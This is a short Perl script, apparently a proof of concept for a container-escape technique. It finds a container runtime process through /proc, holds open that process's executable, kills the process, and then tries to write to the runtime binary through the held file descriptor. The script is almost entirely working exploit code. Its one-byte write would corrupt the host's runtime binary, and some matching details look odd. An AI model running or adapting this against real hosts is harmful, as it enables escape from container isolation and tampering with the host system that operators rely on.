# Opens the program of the runtime through /proc while it enters the container, ends the runtime, and tries to write to it.
my ($pid) = map { m|/proc/(\d+)/cmdline| } grep { open my $c, "<", $_; (<$c> // "") =~ /state\0c\0$/ } glob "/proc/[0-9]*/cmdline";
open(my $program, "<", "/proc/$pid/exe") or die "no program: $!";
print "holds ", readlink("/proc/self/fd/" . fileno $program) =~ /runc|runvf/ ? "the runtime" : "another", "\n";
kill "KILL", $pid;
select undef, undef, undef, 0.01 while -e "/proc/$pid/exe";
print "overwrite: ", open(my $own, "+<", "/proc/self/fd/" . fileno $program) && syswrite($own, "x") ? "DONE" : "refused", "\n";
